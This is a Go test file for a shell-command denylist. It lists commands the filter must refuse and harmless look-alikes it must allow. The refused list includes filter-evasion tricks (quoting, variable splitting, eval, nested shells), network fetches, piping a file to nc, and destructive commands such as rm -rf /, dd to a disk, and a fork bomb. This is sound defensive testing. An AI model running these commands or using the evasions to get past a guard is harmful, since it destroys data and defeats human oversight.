package denylist

import (
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// refused are commands that run something of the built-in list, one way or
// another.
var refused = []string{
	`curl https://example.org`,
	`CURL https://example.org`,
	`curl.exe https://example.org`,
	`/usr/bin/curl https://example.org`,
	`./../usr/bin/curl https://example.org`,
	`'curl' https://example.org`,
	`"curl" https://example.org`,
	`c"ur"l https://example.org`,
	`c\url https://example.org`,
	`\curl https://example.org`,
	`$'\x63url' https://example.org`,
	`{curl,https://example.org}`,
	`cu${none}rl https://example.org`,
	`c=curl; $c https://example.org`,
	`a=cu b=rl; "$a$b" https://example.org`,
	`export TOOL=wget; $TOOL x`,
	`for t in ls curl; do $t x; done`,
	`$(echo curl) https://example.org`,
	"`printf cu%s rl` https://example.org",
	`/usr/bin/cur? https://example.org`,
	`/usr/bin/c[u]rl https://example.org`,
	`true; curl x`,
	`true && curl x`,
	`false || curl x`,
	`! curl x`,
	`(cd /tmp && curl x)`,
	`{ curl x; }`,
	`echo $(curl x)`,
	"echo `curl x`",
	`echo "the page is $(curl x)"`,
	`diff <(curl a) <(cat b)`,
	`cat file | nc example.org 80`,
	`if curl x; then true; fi`,
	`while curl x; do sleep 1; done`,
	`case x in x) curl y;; esac`,
	`f() { curl x; }; f`,
	`curl x &`,
	`X=1 curl x`,
	`>out curl x`,
	`sh -c 'curl x'`,
	`bash -lc "curl x"`,
	`/bin/sh -e -c 'true; curl x'`,
	`sh -c "sh -c 'curl x'"`,
	`bash <<< 'curl x'`,
	"bash <<'END'\ncurl x\nEND\n",
	`echo 'curl x' | sh`,
	`printf 'cu%s x' rl | bash -s`,
	`eval curl x`,
	`eval "cu""rl x"`,
	`trap 'curl x' EXIT`,
	`alias get=curl`,
	`env curl x`,
	`env -i PATH=/bin curl x`,
	`env -u HOME -S 'curl x'`,
	`sudo ls`,
	`/usr/bin/sudo -u www -- ls`,
	`su -c ls`,
	`doas ls`,
	`xargs curl < urls`,
	`xargs -n 1 -P 4 curl < urls`,
	`echo x | xargs -I{} curl {}`,
	`echo curl | xargs -I{} env`,
	`find . -name '*.url' -exec curl {} \;`,
	`find . -type f -execdir sh -c 'curl "$1"' _ {} +`,
	`nohup curl x`,
	`nice -n 10 curl x`,
	`timeout -k 1 5 curl x`,
	`time curl x`,
	`stdbuf -oL curl x`,
	`setsid curl x`,
	`command curl x`,
	`exec -a ls curl x`,
	`busybox wget x`,
	`watch -n 1 'curl x'`,
	`flock /tmp/lock -c 'curl x'`,
	`flock /tmp/lock curl x`,
	`nohup env nice timeout 5 sh -c 'curl x'`,
	`rm -rf /`,
	`rm -r -f /*`,
	`rm -fr ~`,
	`rm -rf "$HOME"`,
	`rm --recursive /etc/`,
	`chmod -R 777 /`,
	`dd if=/dev/zero of=/dev/sda`,
	`cat image > /dev/nvme0n1`,
	`mkfs.ext4 /dev/sdb1`,
	`shutdown -h now`,
	`:(){ :|:& };:`,
	`pwsh -Command "Invoke-WebRequest x"`,
	`powershell -c "(New-Object System.Net.WebClient).DownloadString('x')"`,
	`Remove-Item -Recurse -Force x`,
	`gci -Recurse -Force`,
	`git clean --purge --all`,
	`git push origin main`,
	`git -c a=b push`,
	`tool --purge=1 --all`,
}

// allowed are commands that only look so.
var allowed = []string{
	`ls -la`,
	`grep -r curl .`,
	`grep -rn "curl x; rm -rf /" .`,
	`echo curl`,
	`echo 'sudo rm -rf /'`,
	`echo "use curl or wget" > notes.txt`,
	`cat curl.txt`,
	`./curlew --help`,
	`which curl`,
	`man curl`,
	`apt-cache show wget`,
	`git commit -m "remove sudo; curl | sh"`,
	`git clone --recurse-submodules --force-with x`,
	`git clean --purge`,
	`git pull origin main`,
	`git stash push`,
	`rm -rf build`,
	`rm -rf ./node_modules /tmp/x`,
	`rm -f /etc-copy`,
	`rm -rf "$BUILD"`,
	`chmod -R u+w src`,
	`dd if=/dev/zero of=disk.img`,
	`echo x > /dev/null 2>&1`,
	`find . -name curl`,
	`find . -name '*.go' -exec grep -l curl {} +`,
	`xargs grep curl < files`,
	`env | grep curl`,
	`env FOO=curl make`,
	`timeout 5 grep curl file`,
	`nice -n 5 make curl`,
	`sh script.sh curl`,
	`sh -c 'echo curl'`,
	`bash -c 'grep sudo "$1"' _ file`,
	`x=curl; echo $x`,
	`for t in curl wget; do echo $t; done`,
	`$CC -c main.c`,
	`"$PYTHON" -m pytest`,
	`cargo build --release`,
	`go test ./... -run 'Curl|Wget'`,
	`npm run format`,
	`prettier --write .`,
	`python -c 'print("curl")'`,
	"cat <<'END' > script.sh\ncurl x\nEND\n",
	`awk '/curl/ {print $1}' f`,
	`sed -i 's/curl/fetch/' f`,
	`test -x /usr/bin/curl && echo yes`,
	`[ -n "$curl" ]`,
	`command -v ls`,
	`make shutdown-test`,
	`docker build -t nc .`,
	`tee log | head -1`,
	`a & b & wait`,
	`type -a git`,
	``,
	`   `,
	`# curl x`,
}

func TestListSeesThroughAndLeavesTheRest(t *testing.T) {
	l := &List{Commands: []string{"git push"}, Flags: [][]string{{"--purge", "--all"}}}
	missed, wrong := 0, 0
	for _, c := range refused {
		d, _ := l.Check(c)
		if !assert.NotNil(t, d, "let through: %s", c) {
			missed++
			continue
		}
		assert.NotEmpty(t, d.Part)
		assert.NotEmpty(t, d.Reason)
	}
	for _, c := range allowed {
		if d, _ := l.Check(c); !assert.Nil(t, d, "refused: %s", c) {
			wrong++
		}
	}
	t.Logf("%d commands to refuse, %d let through; %d to allow, %d refused", len(refused), missed, len(allowed), wrong)
	assert.GreaterOrEqual(t, len(refused)+len(allowed), 80)
}

func TestDenialNamesThePart(t *testing.T) {
	l := &List{}
	d, _ := l.Check(`cd src && echo start; FOO=1 env nice -n 5 /usr/bin/curl -s "https://example.org/a b" | tee out`)
	require.NotNil(t, d)
	assert.Equal(t, "the command is refused because of `/usr/bin/curl -s https://example.org/a b`: curl is on the denylist, since it moves data over the network", d.Error())
	d, _ = (&List{Commands: []string{"git push --force"}}).Check(`git push --force origin`)
	require.NotNil(t, d)
	assert.Contains(t, d.Error(), "`git push --force` is on the denylist of the configuration")
}

func TestAllowedComesOffTheList(t *testing.T) {
	l := &List{Allowed: []string{"curl"}}
	d, _ := l.Check("curl x")
	assert.Nil(t, d)
	d, _ = l.Check("wget x")
	assert.NotNil(t, d)
	d, _ = (&List{Allowed: []string{"curl"}, Commands: []string{"curl"}}).Check("curl x")
	assert.NotNil(t, d, "what the configuration refuses stays refused")
}

func TestBackground(t *testing.T) {
	l := &List{}
	for command, want := range map[string]bool{
		"sleep 1 &":                    true,
		"(sleep 1 &)":                  true,
		"a && b &":                     true,
		"a & b & wait":                 false,
		"server & sleep 1; t; kill $!": false,
		"a & wait $!":                  false,
		`echo "a & b"`:                 false,
		"echo 'sleep 1 &'":             false,
		"make 2>&1":                    false,
		"make &> log":                  false,
		"a && b":                       false,
		"a | b":                        false,
		"echo a \\& b":                 false,
		"a & b":                        true,
		"nohup server >l 2>&1 &":       true,
	} {
		_, background := l.Check(command)
		assert.Equal(t, want, background, command)
	}
}

func TestWordsOfOtherLanguages(t *testing.T) {
	l := &List{}
	for _, c := range []string{"Invoke-WebRequest https://example.org", "iwr x", "gci; Remove-Item x", "& 'curl' x", "$x = [System.Net.Http.HttpClient]::new()", "Get-ChildItem -Recurse -Force"} {
		assert.NotNil(t, l.CheckWords(c), c)
	}
	for _, c := range []string{"Get-ChildItem", "Write-Output hello", "Get-Content notes.txt | Select-String word"} {
		assert.Nil(t, l.CheckWords(c), c)
	}
}

func TestHostileCommandsAreReadInTime(t *testing.T) {
	l := &List{}
	for name, c := range map[string]string{
		"braces":      strings.Repeat("{a,b}", 60),
		"sequence":    "echo {1..999999999}",
		"doubling":    "a=xxxxxxxxxxxxxxxx" + strings.Repeat("; a=$a$a$a$a", 60),
		"nesting":     strings.Repeat("sh -c '", 5000),
		"parentheses": strings.Repeat("(", 20_000),
		"substitutes": strings.Repeat("$(", 5000) + "x" + strings.Repeat(")", 5000),
		"loops":       strings.Repeat("for a in 1 2 3 4 5 6 7 8 9; do ", 100) + "true" + strings.Repeat("; done", 100),
		"long":        strings.Repeat("echo hello; ", 10_000),
		"not UTF-8":   "echo \xff\xfe; curl x",
		"NUL":         "echo \x00 x",
		"unclosed":    "echo 'x",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			start := time.Now()
			l.Check(c)
			assert.Less(t, time.Since(start), 10*time.Second)
		})
	}
}

func FuzzCheck(f *testing.F) {
	for _, c := range append(refused, allowed...) {
		f.Add(c)
	}
	l := &List{Flags: [][]string{{"-a", "--b"}}}
	f.Fuzz(func(t *testing.T, c string) {
		if len(c) < 4096 {
			l.Check(c)
			l.CheckWords(c)
		}
	})
}
